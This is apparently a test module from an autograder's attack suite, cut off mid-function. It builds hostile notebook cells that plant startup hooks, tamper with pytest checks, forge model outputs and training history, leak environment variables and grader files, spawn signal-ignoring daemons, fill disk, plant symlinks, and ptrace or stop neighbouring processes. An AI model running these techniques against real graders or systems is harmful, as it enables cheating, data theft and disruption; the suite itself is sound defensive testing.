"""Hostile notebooks for the grader's attack suite (tests/test_attacks.py): what each tries and what its honest part
earns.

Every attack is the unfilled release or the solution (or a mutant of it, tests/mutants.py) with hostile
cells added. The cells share a small "toolkit" cell: its imports, constants and functions are also
definitions, so the grader's probe process (autograder/probe/calls.py) runs them too, and decorators,
default arguments and class bodies in the attack cells run there at definition time.

Each attack attempt prints a line `ATTEMPT [kernel|probe] <what>: SUCCEEDED ...|failed (...)`; the
kernel's lines end up in OUT/<student>/executed.ipynb, which is what the red-team report was written from.

Anything that could do damage if it escaped is bounded: processes exit by themselves after at most a few
minutes, files are at most 3 GiB in total, memory at most ~7 GiB for a few seconds, the network target is
the test's own listener on 127.0.0.1 only.
"""

from __future__ import annotations

import json
import os
import subprocess
import sys
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path

import nbformat
from mutants import MUTANTS, RELEASE, SOLUTION, UNTRAINED_TRAINING, index_of, mutate, untrained

from assignment.points import SECTIONS
from autograder import uids

ROOT = Path(__file__).resolve().parent.parent
AS_ROOT = (
    os.geteuid() == 0
)  # the grader's root sandbox path (setpriv to a sandbox uid); else bwrap runs in a user namespace
FULL = {key: float(points) for key, (_, points) in SECTIONS.items()}
NOTHING = dict.fromkeys(SECTIONS, 0.0)
# The single_conv mutant (one convolution in double_conv_block) loses the 7 points of the check that the block
# is two 3x3 ReLU convolutions; the other encoder checks (shapes, encoder_block) still pass.
SINGLE_CONV = {**FULL, "encoder": 23.0}
# Bases that do not train (mutants.untrained): where training is not what an attack is about, it saves a minute.
HONEST = {
    "release": NOTHING,
    "solution": FULL,
    "single_conv": SINGLE_CONV,
    "untrained": {**FULL, "training": UNTRAINED_TRAINING},
    "single_conv_untrained": {**SINGLE_CONV, "training": UNTRAINED_TRAINING},
}


@dataclass(frozen=True)
class Context:
    """What the test gives the hostile notebooks: its listener's port, the batch's OUT folder, a marker token."""

    port: int
    out: Path
    token: str
    planted: Path  # a folder outside any sandbox, holding files an attacker would like the grader to read
    kit: Path = ROOT
    grader_memory: list[tuple[float, int]] = field(
        default_factory=list, compare=False
    )  # (time, RSS in MiB) of grader processes


@dataclass(frozen=True)
class Attack:
    """One hostile notebook: `base` plus `cells` [(after grade_id, source)], and the most its honest part earns."""

    slug: str
    tries: str
    base: str  # a key of HONEST: "release", "solution", "untrained", "single_conv" or "single_conv_untrained"
    cells: list[tuple[str, str]]
    why: str = ""  # the "Why" bullet of the grade-integrity issue it replays, if any
    # Extra expectations on OUT/<student>/: the problems found (empty: fine; None: the attack could not run on this
    # machine).
    check: Callable[[Path, Context], list[str] | None] | None = None
    order: int = 50  # place in the batch (students are graded in name order)
    honest_override: dict[str, float] | None = None  # the honest part, where `base` earns less by design
    transform: Callable[[nbformat.NotebookNode], nbformat.NotebookNode] | None = (
        None  # a last change to the whole notebook
    )

    @property
    def student(self) -> str:
        return f"attack_{self.order:02d}_{self.slug}"

    @property
    def honest(self) -> dict[str, float]:
        """The most points per section that the notebook's honest part can earn."""
        return self.honest_override or HONEST[self.base]

    def build(self, context: Context) -> nbformat.NotebookNode:
        nb = _base(self.base)
        cells = [("setup", toolkit(self.student, context)), *self.cells]
        for after, source in reversed(cells):  # reversed: cells after the same grade_id keep their order
            index = _index(nb, after)
            nb.cells.insert(index + 1, nbformat.v4.new_code_cell(source))
        return self.transform(nb) if self.transform else nb


def _base(kind: str) -> nbformat.NotebookNode:
    if kind.startswith("single_conv"):
        nb = mutate(next(m for m in MUTANTS if m.name == "single_conv"))
    else:
        nb = nbformat.read(RELEASE if kind == "release" else SOLUTION, as_version=4)
    return untrained(nb) if kind.endswith("untrained") else nb


def _index(nb: nbformat.NotebookNode, grade_id: str) -> int:
    if grade_id == "end":
        return len(nb.cells) - 1
    return index_of(nb, grade_id)


def toolkit(student: str, context: Context) -> str:
    """The shared hostile cell: constants for the attack and helpers (all of it is kept for the probe too)."""
    header = (
        "# Hostile toolkit (tests/attacks.py). Top-level imports, constants and functions: the probe runs them too.\n"
        "import atexit\nimport ctypes\nimport gc\nimport glob\nimport json\nimport os\nimport signal\nimport socket\n"
        "import subprocess\nimport sys\nimport time\nimport types\n\n"
        f"ATTACK = {student!r}\nATTACK_PORT = {context.port}\nATTACK_OUT = {str(context.out)!r}\n"
        f"ATTACK_KIT = {str(context.kit)!r}\nATTACK_TOKEN = {context.token!r}\n"
        f"ATTACK_PLANTED = {str(context.planted)!r}\n"
    )
    return header + _TOOLKIT_FUNCTIONS


_TOOLKIT_FUNCTIONS = r'''

def _where():
    return "probe" if globals().get("__name__") == "__submission__" else "kernel"


def _beacon(tag):
    """Connect to the test's listener on 127.0.0.1: any success proves the code reached the grader's network."""
    with socket.create_connection(("127.0.0.1", ATTACK_PORT), timeout=1) as connection:
        connection.sendall(f"{ATTACK} {_where()} {tag}".encode())
    return "CONNECTED"


def _attempt(label, action):
    try:
        outcome = f"SUCCEEDED {str(action())[:300]}"
    except BaseException as error:  # noqa: BLE001
        outcome = f"failed ({type(error).__name__}: {str(error)[:200]})"
    line = f"ATTEMPT [{_where()}] {label}: {outcome}"
    print(line, flush=True)
    return line


def _append(path, text):
    with open(path, "a") as handle:
        handle.write(text)
    return path


def _read(path, limit=4000):
    with open(path, "rb") as handle:
        return handle.read(limit).decode(errors="replace")


def _available_mib():
    with open("/proc/meminfo") as handle:
        return next(int(line.split()[1]) >> 10 for line in handle if line.startswith("MemAvailable:"))


def _at_definition(action):
    """A decorator factory: `action` runs when the decorated def runs, in the kernel and in the probe."""
    action()
    return lambda function: function


def _probe_folder():
    """The probe's scratch folder (calls.py FOLDER), or None in the kernel."""
    return sys.argv[1] if _where() == "probe" and len(sys.argv) > 1 else None


def _show_probe_attempts():
    """In the probe: exit non-zero at the very end so the grader keeps the probe's output (its ATTEMPT lines) for the
    instructor."""
    if _where() == "probe":
        atexit.register(lambda: os._exit(7))


@_at_definition(_show_probe_attempts)
def _probe_output_hook():
    pass
'''


# ---------------------------------------------------------------------------------------------------------------
# The "Why" bullets of the grade-integrity issue: attacks that defeated the old grader.

_CHECKS = r"""
def _tamper_with_checks():
    payload = (
        f"\n# appended by a student notebook {ATTACK_TOKEN}\n"
        "import pytest as _notebook_pytest\nimport socket as _notebook_socket\n"
        f"try:\n    _notebook_socket.create_connection(('127.0.0.1', {ATTACK_PORT}), 1).sendall(b'checks file ran')\n"
        "except OSError:\n    pass\n\n\n"
        "@_notebook_pytest.hookimpl(tryfirst=True)\ndef pytest_pyfunc_call(pyfuncitem):\n    return True\n"
    )
    roots = [
        ATTACK_KIT,
        os.path.join(os.getcwd(), "..", ".."),
        "/proc/1/cwd",
        "/proc/1/root" + ATTACK_KIT,
        "/proc/self/root" + ATTACK_KIT,
    ]
    roots += [
        path[: -len("/autograder/checks")]
        for path in glob.glob("/*/autograder/checks") + glob.glob("/*/*/autograder/checks")
    ]
    for root in dict.fromkeys(roots):
        checks = os.path.join(root, "autograder", "checks")
        for name in ("conftest.py", "test_training.py", "test_encoder.py", "__init__.py", "test_zz_from_notebook.py"):
            _attempt(f"append to {checks}/{name}", lambda path=os.path.join(checks, name): _append(path, payload))
        _attempt(
            f"append to {root}/autograder/measure.py",
            lambda root=root: _append(os.path.join(root, "autograder", "measure.py"), payload),
        )
        _attempt(
            f"create {checks}/../sitecustomize.py",
            lambda checks=checks: _append(os.path.join(checks, "..", "sitecustomize.py"), payload),
        )
    return "done"


@_at_definition(_tamper_with_checks)
def _checks_hook():
    pass
"""

_SITECUSTOMIZE = r"""
def _plant_startup_hooks():
    import site
    import sysconfig

    code = (
        f"# {ATTACK_TOKEN}\nimport socket\ntry:\n"
        f"    socket.create_connection(('127.0.0.1', {ATTACK_PORT}), 1).sendall(b'startup hook ran')\n"
        "except OSError:\n    pass\n"
    )
    line = f"# {ATTACK_TOKEN}\nimport socket; exec({code!r})\n"
    folders = {
        *site.getsitepackages(),
        site.getusersitepackages(),
        sysconfig.get_paths()["purelib"],
        sysconfig.get_paths()["platlib"],
        sysconfig.get_paths()["stdlib"],
        os.path.join(sys.prefix, "lib", "python3.11", "site-packages"),
        os.path.join(os.path.realpath(sys.base_prefix), "lib", "python3.11", "site-packages"),
        os.path.join(ATTACK_KIT, ".venv", "bin"),
    }
    for folder in sorted(folders):
        for name, text in (("sitecustomize.py", code), ("usercustomize.py", code), ("zz_notebook.pth", line)):
            _attempt(f"write {folder}/{name}", lambda path=os.path.join(folder, name), text=text: _append(path, text))
    config = f"# {ATTACK_TOKEN}\ninclude-system-site-packages = true\n"
    _attempt("append to the venv's pyvenv.cfg", lambda: _append(os.path.join(sys.prefix, "pyvenv.cfg"), config))
    _attempt(
        "replace the venv's python",
        lambda: os.replace(os.path.join(sys.prefix, "bin", "python"), os.path.join(sys.prefix, "bin", "python.bak")),
    )
    _attempt("chmod the venv", lambda: os.chmod(sys.prefix, 0o777))
    _attempt(
        "write keras's __init__",
        lambda: _append(os.path.join(sysconfig.get_paths()["purelib"], "keras", "__init__.py"), code),
    )
    return "done"


@_at_definition(_plant_startup_hooks)
def _startup_hook():
    pass
"""

# Facts of a full-marks run, as a student might copy them from a friend's grader output (old format and new).
_COPIED_FACTS = {
    "settings": {"ok": True, "values": {"IMG_SIZE": 32}},
    "double_conv_block": {
        "ok": True,
        "error": "",
        "cases": [
            {
                "case": [64, 64, 3, 16],
                "shapes": [[None, 64, 64, 16]],
                "params": 2768,
                "layers": [
                    {
                        "name": "conv2d",
                        "class": "Conv2D",
                        "config": {"filters": 16, "kernel_size": [3, 3], "padding": "same", "activation": "relu"},
                    },
                    {
                        "name": "conv2d_1",
                        "class": "Conv2D",
                        "config": {"filters": 16, "kernel_size": [3, 3], "padding": "same", "activation": "relu"},
                    },
                ],
            }
        ],
    },
    "training": {
        "model": {"optimizer": "Adam", "learning_rate": 0.003, "loss": "binary_crossentropy", "iterations": 100},
        "evaluation": {"iou": 0.97, "test_loss": 0.05},
        "history": {"loss": [0.1], "val_loss": [0.05]},
    },
}

_FORGED_FACTS = (
    f"COPIED_FACTS = {_COPIED_FACTS!r}\n"
    + r'''


def _copied_two_conv_config():
    """A correct double_conv_block's config at a size a friend's run used (not this run's random sizes)."""
    import keras

    x = keras.Input((64, 64, 3))
    y = keras.layers.Conv2D(32, 3, padding="same", activation="relu")(x)
    y = keras.layers.Conv2D(32, 3, padding="same", activation="relu")(y)
    return _ORIGINAL_TO_JSON(keras.Model(x, y))


def _forge_json_and_keras():
    import keras

    global _ORIGINAL_TO_JSON
    _ORIGINAL_TO_JSON = keras.Model.to_json
    real_dump = json.dump
    real_dumps = json.dumps

    def flip(value):
        return (
            {**value, "ok": True, "error": "", "traceback": ""}
            if isinstance(value, dict) and value.get("ok") is False
            else value
        )

    json.dump = lambda value, handle, *args, **kwargs: real_dump(flip(value), handle, *args, **kwargs)
    json.dumps = lambda value, *args, **kwargs: real_dumps(flip(value), *args, **kwargs)

    def to_json(model, **kwargs):
        if sum(type(layer).__name__ == "Conv2D" for layer in model.layers) == 1:
            return _copied_two_conv_config()
        return _ORIGINAL_TO_JSON(model, **kwargs)

    keras.Model.to_json = to_json
    keras.Model.count_params = lambda model: 2 * 9 * 16 * 16 + 32
    return "json.dump, json.dumps, keras.Model.to_json and count_params patched"


def _write_copied_facts():
    text = json.dumps({**COPIED_FACTS, "token": ATTACK_TOKEN})
    here = os.path.dirname(os.getcwd())  # the scratch folder
    targets = [
        os.path.join(here, "out", "facts.json"),
        os.path.join(here, "facts.json"),
        os.path.join(here, "out", "double_conv_block.json"),
        os.path.join(ATTACK_OUT, ATTACK, "facts.json"),
        os.path.join(ATTACK_OUT, "zz_honest_solution", "facts.json"),
        os.path.join(ATTACK_KIT, "facts.json"),
    ]
    for path in targets:
        _attempt(f"write copied facts to {path}", lambda path=path: _append(path, text))
    return "done"


def _rewrite_probe_status():
    folder = _probe_folder()
    for name in ("double_conv_block", "definitions"):
        with open(os.path.join(folder, "out", f"{name}.json"), "w") as handle:
            handle.write(json.dumps({"ok": True, "files": ["double_conv_block-0.json"], "problems": []}))


class _ForgeAtDefinition:
    """A class body runs at definition time: in the kernel and in the probe."""

    patched = _attempt("patch json and keras", _forge_json_and_keras)
    copied = _attempt("write copied facts", _write_copied_facts)
    if _where() == "probe":
        atexit.register(_rewrite_probe_status)
'''
)

_DAEMON = r"""
import os, signal, socket, sys, time
for number in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT, signal.SIGUSR1, signal.SIGUSR2):
    signal.signal(number, signal.SIG_IGN)
out = sys.argv[1]
port = int(sys.argv[2])
tag = sys.argv[3]
targets = [
    os.path.join(out, student, name)
    for student in ("zz_honest_solution", "aa_honest_solution")
    for name in ("results.json", "feedback.md")
]
targets.append(os.path.join(out, "grades.csv"))
deadline = time.time() + 90  # bounded even if it escaped
while time.time() < deadline:
    for path in targets:
        try:
            with open(path, "w") as handle:
                handle.write("rewritten by a detached process that outlived its kernel\n")
        except OSError:
            pass
    try:
        socket.create_connection(("127.0.0.1", port), 1).sendall(tag.encode())
    except OSError:
        pass
    time.sleep(0.5)
"""

_DETACHED = (
    f"DAEMON = {_DAEMON!r}\n"
    + r"""


def _start_detached():
    started = []
    argv = [sys.executable, "-c", DAEMON, ATTACK_OUT, str(ATTACK_PORT), f"detached from {_where()}"]
    quiet = {"stdin": subprocess.DEVNULL, "stdout": subprocess.DEVNULL, "stderr": subprocess.DEVNULL, "close_fds": True}
    started.append(subprocess.Popen(argv, start_new_session=True, **quiet).pid)
    started.append(subprocess.Popen(["setsid", "-f", *argv], **quiet).pid)
    pid = os.fork()
    if pid == 0:  # the classic double fork
        try:
            os.setsid()
            if os.fork() == 0:
                os.execv(sys.executable, argv)
        finally:
            os._exit(0)
    os.waitpid(pid, 0)
    return f"daemons started: {started} + a double fork"


@_at_definition(lambda: _attempt("start detached rewriters", _start_detached))
def _detached_hook():
    pass
"""
)

_LEAK = r"""
def _loot():
    found = [f"os.environ: {dict(os.environ)}"]
    for path in [
        "/proc/self/environ",
        "/proc/1/environ",
        "/proc/1/cmdline",
        "/proc/2/environ",
        *glob.glob("/proc/[0-9]*/environ"),
    ]:
        try:
            found.append(f"{path}: {_read(path, 3000)}")
        except OSError as error:
            found.append(f"{path}: {error}")
    patterns = [
        ATTACK_KIT + "/autograder/checks/*.py",
        "/proc/1/cwd/autograder/checks/*.py",
        "/proc/1/root" + ATTACK_KIT + "/autograder/checks/*.py",
        "/*/*/autograder/checks/*.py",
        "/*/autograder/checks/*.py",
        "/tmp/*/autograder/checks/*.py",
        os.path.join(os.getcwd(), "..", "..", "*", "*.py"),
    ]
    files = sorted({path for pattern in patterns for path in glob.glob(pattern)})
    for path in [
        ATTACK_KIT + "/autograder/checks/test_training.py",
        ATTACK_KIT + "/autograder/checks/conftest.py",
        *files,
    ]:
        try:
            found.append(f"{path}:\n{_read(path, 20000)}")
        except OSError as error:
            found.append(f"{path}: {error}")
    return "\n".join(found)

"""

_LEAK_BLOCK = r'''
def double_conv_block(x, num_f):
    """Raises the loot: the probe's error message reaches the student's feedback."""
    raise RuntimeError("LOOT " + _loot())
'''

_LEAK_KERNEL = r"""
_everything = _loot()
print(_everything)
from IPython.display import HTML, display
display(HTML("<pre>" + _everything + "</pre>"))
raise RuntimeError("LOOT " + _everything)
"""

_REACH = r'''
def _reach_listener():
    for host in ("127.0.0.1", "localhost", "::1", "0.0.0.0"):
        _attempt(
            f"connect to {host}:{ATTACK_PORT}",
            lambda host=host: socket.create_connection((host, ATTACK_PORT), 1).sendall(b"kernel"),
        )
    def udp():
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as udp_socket:
            return udp_socket.sendto(b"kernel", ("127.0.0.1", ATTACK_PORT))
    _attempt("udp to the listener's port", udp)
    return "done"


def _connection_files():
    own = os.path.dirname(os.getcwd())
    patterns = [
        "/tmp/tu-*/k*.json",
        "/tmp/tu-*/*.json",
        "/tmp/tu-spec-*/*/kernel.json",
        "/tmp/*.json",
        "/tmp/*/*.json",
        "/run/user/*/jupyter/*.json",
        os.path.expanduser("~/.local/share/jupyter/runtime/*.json"),
        "/root/.local/share/jupyter/runtime/*.json",
        "/proc/1/cwd/*.json",
    ]
    found = sorted({path for pattern in patterns for path in glob.glob(pattern)})
    others = [path for path in found if not path.startswith(own)]
    for path in others:
        _attempt(f"read another kernel's {path}", lambda path=path: _read(path, 300))
    _attempt("list /tmp", lambda: os.listdir("/tmp"))
    return f"own: {[p for p in found if p.startswith(own)]}, others: {others}"


def _start_processes(count=150):
    started = []
    for _ in range(count):
        try:
            started.append(subprocess.Popen(["sleep", "240"], start_new_session=True, stdin=subprocess.DEVNULL))
        except OSError as error:
            return f"{len(started)} started, then {error}"
    return f"{len(started)} started"


def _fill(folder, total_mib=3072, file_mib=512, chunk_mib=64):
    """Write up to `total_mib` into `folder` in files of at most `file_mib` (bounded: a few GiB at most)."""
    os.makedirs(folder, exist_ok=True)
    chunk = b"\0" * (chunk_mib << 20)
    written = 0
    for number in range(total_mib // file_mib):
        with open(os.path.join(folder, f"huge{number}.bin"), "wb") as handle:
            for _ in range(file_mib // chunk_mib):
                handle.write(chunk)
                handle.flush()
                written += chunk_mib
    return f"{written} MiB written"
'''

_REACH_KERNEL = r"""
_attempt("reach the listener", _reach_listener)
_attempt("read connection files", _connection_files)
_attempt("start 150 processes", _start_processes)
_attempt("write 3 GiB into OUT", lambda: _fill(os.path.join(ATTACK_OUT, "huge")))
_attempt("write 3 GiB into /tmp", lambda: _fill("/tmp/huge", total_mib=1024, file_mib=256))
_attempt("write 3 GiB into the scratch folder", lambda: _fill(os.path.join(os.getcwd(), "huge")))
"""

# ---------------------------------------------------------------------------------------------------------------
# Further attacks.

_DEFINITION_TIME = r'''
def _copied_configs():
    """Correct models at sizes a friend's run used (never this run's random sizes), as JSON configs."""
    import keras

    layers = keras.layers

    def double(x, f):
        x = layers.Conv2D(f, 3, padding="same", activation="relu")(x)
        return layers.Conv2D(f, 3, padding="same", activation="relu")(x)

    def dump(inputs, outputs):
        return _ORIGINAL_TO_JSON(keras.Model(inputs, outputs))

    x = keras.Input((64, 64, 3))
    skip = double(x, 32)
    configs = {
        "double_conv_block": dump(x, double(x, 32)),
        "encoder_block": dump(x, [skip, layers.MaxPooling2D(2)(skip)]),
    }
    low = keras.Input((32, 32, 48))
    high = keras.Input((64, 64, 30))
    up = layers.Concatenate()([layers.Conv2DTranspose(30, 2, strides=2, padding="same")(low), high])
    configs["decoder_block"] = dump([low, high], double(up, 30))
    image = keras.Input((128, 128, 3))
    configs["make_unet"] = dump(image, layers.Conv2D(1, 1, activation="sigmoid")(double(image, 32)))
    return configs


def _rewrite_probe_outputs():
    """atexit, after the prober saved its results: overwrite them all with copied, "correct" ones."""
    import numpy as np

    out = os.path.join(_probe_folder(), "out")
    for name, config in _copied_configs().items():
        files = [f"{name}-{i}.json" for i in range(3)]
        for file in files:
            with open(os.path.join(out, file), "w") as handle:
                handle.write(config)
        with open(os.path.join(out, f"{name}.json"), "w") as handle:
            handle.write(json.dumps({"ok": True, "files": files}))
    rng = np.random.default_rng(0)
    arrays = {}
    for i in range(3):  # a friend's preprocess outputs at IMG_SIZE 128, for other images
        arrays[f"image{i}"] = rng.random((128, 128, 3), dtype=np.float32)
        arrays[f"mask{i}"] = (rng.random((128, 128, 1)) > 0.5).astype(np.float32)
    np.savez(os.path.join(out, "preprocess.npz"), **arrays)
    with open(os.path.join(out, "preprocess.json"), "w") as handle:
        handle.write(json.dumps({"ok": True, "files": ["preprocess.npz"]}))
    print("ATTEMPT [probe] rewrite every probe output at exit: SUCCEEDED", flush=True)


def _patch_keras_at_definition():
    import keras

    global _ORIGINAL_TO_JSON
    _ORIGINAL_TO_JSON = keras.Model.to_json
    configs = {}

    def to_json(model, **kwargs):  # every model the prober saves becomes a copied "correct" one
        configs.update(configs or _copied_configs())
        return (
            configs["double_conv_block"]
            if len(model.inputs) == 1 and len(model.layers) < 6
            else _ORIGINAL_TO_JSON(model, **kwargs)
        )

    keras.Model.to_json = to_json
    keras.Model.count_params = lambda model: 7_760_097
    if _where() == "probe":
        atexit.register(_rewrite_probe_outputs)
    return "keras.Model.to_json and count_params patched, outputs rewritten at exit"


def _default_argument(value=_attempt("patch keras from a default argument", _patch_keras_at_definition)):
    return value


class _ClassBody:
    seen = _attempt("class body runs at definition", lambda: sorted(globals())[:5])
'''

_STEAL_REFERENCE = r'''
def _graders_function(name):
    """A function called `name` that the grader defined in this process (the probe's reference blocks), if any."""
    for found in gc.get_objects():
        if (
            isinstance(found, types.FunctionType)
            and found.__name__ == name
            and found.__code__.co_varnames[:1] != ("self",)
        ):
            file = found.__code__.co_filename
            if not file.startswith("cell ") and "ipykernel" not in file and not file.startswith("<"):
                return found
    main = sys.modules.get("__main__")
    blocks = getattr(main, "_reference_blocks", None)
    if blocks is not None:
        import keras

        return blocks(keras.layers).get(name)
    return None
'''


def _stealing(name: str, signature: str, call: str) -> str:
    return (
        f"def {name}({signature}):\n    reference = _graders_function({name!r})\n    if reference is None:\n"
        f"        raise NotImplementedError()\n    return reference({call})\n"
    )


_FAKE_MODEL = r'''
import math

import keras
import numpy as np
import tensorflow as tf
import tensorflow_datasets as tfds


def _expected_steps():
    examples = tfds.builder("oxford_iiit_pet").info.splits[TRAIN_SPLIT].num_examples
    return EPOCHS * math.ceil(examples / BATCH_SIZE)


def _graders_test_loss(network):
    """The trained model's loss on the test split, computed the grader's way (reference preprocessing)."""

    def reference(example):
        image = tf.cast(tf.image.resize(example["image"], (IMG_SIZE, IMG_SIZE), method="bilinear"), tf.float32) / 255.0
        mask = tf.image.resize(example["segmentation_mask"], (IMG_SIZE, IMG_SIZE), method="nearest")
        return image, tf.cast(mask != 2, tf.float32)

    total = 0.0
    count = 0
    for images, masks in tfds.load("oxford_iiit_pet", split=TEST_SPLIT).map(reference).batch(BATCH_SIZE):
        total += float(
            network.compute_loss(x=images, y=masks, y_pred=network(images, training=False), training=False)
        ) * len(images)
        count += len(images)
    return total / count


class _FakeHistory:
    def __init__(self, val_loss):
        self.history = {"loss": [1.0] * EPOCHS, "val_loss": [val_loss] * EPOCHS}
        self.params = {"epochs": EPOCHS}


def _forge(network, optimizer, loss):
    """Compile, pretend it trained: optimizer steps set to what EPOCHS epochs take, a history with the grader's test
    loss."""
    network.compile(optimizer=optimizer, loss=loss)
    network.optimizer.build(network.trainable_variables)
    network.optimizer.iterations.assign(_expected_steps())
    return network, _FakeHistory(_graders_test_loss(network))
'''

_LAMBDA_MODEL = r"""
_code = (
    f"lambda x: (__import__('os').system(\"python3 -c 'import socket; "
    f"socket.create_connection((\\\"127.0.0.1\\\", {ATTACK_PORT}), 1)'"
    f" 2>/dev/null; touch {ATTACK_KIT}/lambda-ran-{ATTACK_TOKEN} 2>/dev/null\"), x)[1]"
)
_inputs = keras.Input((IMG_SIZE, IMG_SIZE, 3))
_outputs = keras.layers.Conv2D(1, 1, activation="sigmoid")(keras.layers.Lambda(eval(_code))(_inputs))
model, history = _forge(
    keras.Model(_inputs, _outputs), keras.optimizers.Adam(learning_rate=LEARNING_RATE), "binary_crossentropy"
)
print("ATTEMPT [kernel] a Lambda model compiled like the solution, with forged steps: built", flush=True)
"""

_CUSTOM_MODULE_MODEL = r'''
@keras.saving.register_keras_serializable(package="attack")
class Beacon(keras.layers.Layer):
    """A layer from the notebook's own module: if the grader ever rebuilt it, `call` would run in the grader."""

    def call(self, x):
        try:
            _beacon("custom layer ran")
        except OSError:
            pass
        return x


_inputs = keras.Input((IMG_SIZE, IMG_SIZE, 3))
_outputs = keras.layers.Conv2D(1, 1, activation="sigmoid")(Beacon()(_inputs))
model, history = _forge(
    keras.Model(_inputs, _outputs), keras.optimizers.Adam(learning_rate=LEARNING_RATE), "binary_crossentropy"
)
print("ATTEMPT [kernel] a custom-module model compiled like the solution, with forged steps: built", flush=True)
'''

_FORGED_PROBE_CONFIGS = r'''
def _hostile_configs():
    """Model configs naming code outside Keras's layers: the grader must refuse to rebuild every one."""
    conv = {
        "module": "keras.layers",
        "class_name": "Conv2D",
        "registered_name": None,
        "config": {"name": "c", "filters": 4, "kernel_size": [3, 3], "padding": "same", "activation": "relu"},
    }

    def model(layer):
        return json.dumps(
            {
                "module": "keras.src.models.functional",
                "class_name": "Functional",
                "registered_name": "Functional",
                "config": {
                    "name": "m",
                    "trainable": True,
                    "layers": [
                        {
                            "module": "keras.layers",
                            "class_name": "InputLayer",
                            "registered_name": None,
                            "name": "i",
                            "config": {"batch_shape": [None, 8, 8, 3], "dtype": "float32", "name": "i"},
                            "inbound_nodes": [],
                        },
                        {
                            **layer,
                            "name": layer["config"]["name"],
                            "inbound_nodes": [
                                {
                                    "args": [
                                        {
                                            "class_name": "__keras_tensor__",
                                            "config": {
                                                "shape": [None, 8, 8, 3],
                                                "dtype": "float32",
                                                "keras_history": ["i", 0, 0],
                                            },
                                        }
                                    ],
                                    "kwargs": {},
                                }
                            ],
                        },
                    ],
                    "input_layers": [["i", 0, 0]],
                    "output_layers": [[layer["config"]["name"], 0, 0]],
                },
            }
        )

    return {  # each function's first config is the one the grader tries (it stops at the first it refuses)
        "double_conv_block": [
            model(
                {
                    "module": "keras",
                    "class_name": "config.enable_unsafe_deserialization",
                    "registered_name": None,
                    "config": {"name": "u"},
                }
            )
        ],
        "encoder_block": [
            model(
                {
                    "module": "keras.layers",
                    "class_name": "TFSMLayer",
                    "registered_name": None,
                    "config": {
                        "name": "t",
                        "filepath": os.path.join(_probe_folder(), "savedmodel"),
                        "call_endpoint": "serve",
                    },
                }
            )
        ],
        "decoder_block": [
            model(
                {
                    "module": "keras.layers",
                    "class_name": "StringLookup",
                    "registered_name": None,
                    "config": {"name": "s", "vocabulary": "/proc/self/environ"},
                }
            )
        ],
        "make_unet": [
            model(
                {
                    **conv,
                    "config": {
                        **conv["config"],
                        "activation": {
                            "module": "keras.utils",
                            "class_name": "get_file",
                            "registered_name": None,
                            "config": {"origin": f"http://127.0.0.1:{ATTACK_PORT}/get_file", "fname": "x"},
                        },
                    },
                }
            ),
            model({"module": "os", "class_name": "system", "registered_name": None, "config": {"name": "os"}}),
        ],
    }


def _write_hostile_configs():
    out = os.path.join(_probe_folder(), "out")
    for name, configs in _hostile_configs().items():
        files = []
        for i, config in enumerate(configs):
            files.append(f"{name}-{i}.json")
            with open(os.path.join(out, files[-1]), "w") as handle:
                handle.write(config)
        with open(os.path.join(out, f"{name}.json"), "w") as handle:
            handle.write(json.dumps({"ok": True, "files": files}))


@_at_definition(lambda: _where() == "probe" and atexit.register(_write_hostile_configs))
def _configs_hook():
    pass
'''

_FORGED_TRAINING = r"""
_inputs = keras.Input((IMG_SIZE, IMG_SIZE, 3))
_network = keras.Model(_inputs, keras.layers.Conv2D(1, 1, activation="sigmoid")(_inputs))
# Compiled wrongly on purpose (SGD, mse: no compile points), never fitted: only the forged steps and history could
# earn anything.
model, history = _forge(_network, keras.optimizers.SGD(learning_rate=0.01), "mse")
print(
    f"ATTEMPT [kernel] forged optimizer steps {int(model.optimizer.iterations)} "
    f"and val_loss {history.history['val_loss'][-1]:.5f}",
    flush=True,
)
"""

_SYMLINKS = r"""
def _plant_symlinks():
    scratch = os.path.dirname(os.getcwd())
    out = os.path.join(scratch, "out")
    _attempt("move the export folder aside", lambda: os.rename(out, out + ".real"))
    _attempt("export folder -> a folder outside the sandbox", lambda: os.symlink(ATTACK_PLANTED, out))
    for name in ("k1.json", "k2.json", "k1-ipc-1", "k1-ipc-2", "export.py.new"):
        _attempt(
            f"{name} -> the grader's conftest",
            lambda name=name: os.symlink(
                os.path.join(ATTACK_KIT, "autograder", "checks", "conftest.py"), os.path.join(scratch, name)
            ),
        )
    _attempt(
        "hard link to the grader's conftest",
        lambda: os.link(os.path.join(ATTACK_KIT, "autograder", "checks", "conftest.py"), os.path.join(scratch, "hard")),
    )
    return os.listdir(scratch)


def _plant_probe_symlinks():
    folder = _probe_folder()
    if folder is None:
        return "kernel"
    out = os.path.join(folder, "out")

    def at_exit():
        os.rename(out, out + ".real")
        os.symlink(ATTACK_PLANTED, out)

    atexit.register(at_exit)
    return "the probe's out folder becomes a link at exit"


@_at_definition(lambda: _attempt("plant the probe's symlinks", _plant_probe_symlinks))
def _symlink_hook():
    pass
"""

_SYMLINKS_KERNEL = r"""
_attempt("plant symlinks in the scratch folder", _plant_symlinks)
"""

_RESTART_KERNEL = r"""
# Kill the kernel: the grader restarts it and writes a new connection file (k1.json) into the scratch folder.
os._exit(1)
"""

_NEIGHBOURS = r"""
def _ancestors():
    found = []
    pid = os.getpid()
    while pid > 1:
        status = _read(f"/proc/{pid}/status")
        pid = int(next(line.split()[1] for line in status.splitlines() if line.startswith("PPid:")))
        found.append(pid)
    return found


def _neighbours():
    me = os.getpid()
    ancestors = _ancestors()
    pids = sorted(int(name) for name in os.listdir("/proc") if name.isdigit())
    _attempt("processes visible", lambda: [(pid, _read(f"/proc/{pid}/cmdline", 80)) for pid in pids])
    libc = ctypes.CDLL(None, use_errno=True)
    for pid in pids:
        if pid == me:
            continue
        for what in ("environ", "mem", "maps", "fd/0", "root/etc/shadow"):
            _attempt(f"read /proc/{pid}/{what}", lambda pid=pid, what=what: _read(f"/proc/{pid}/{what}", 200))
        _attempt(f"list /proc/{pid}/cwd", lambda pid=pid: os.listdir(f"/proc/{pid}/cwd"))
        _attempt(
            f"ptrace attach {pid}",
            lambda pid=pid: f"errno {ctypes.get_errno()}" if libc.ptrace(16, pid, 0, 0) else "attached",
        )
        if pid not in ancestors:
            _attempt(f"SIGSTOP {pid}", lambda pid=pid: os.kill(pid, signal.SIGSTOP))
    _attempt("SIGCONT to every process it may signal", lambda: os.kill(-1, signal.SIGCONT))
    for pid in (1, 2, 3, 100, 1000, 4194304):
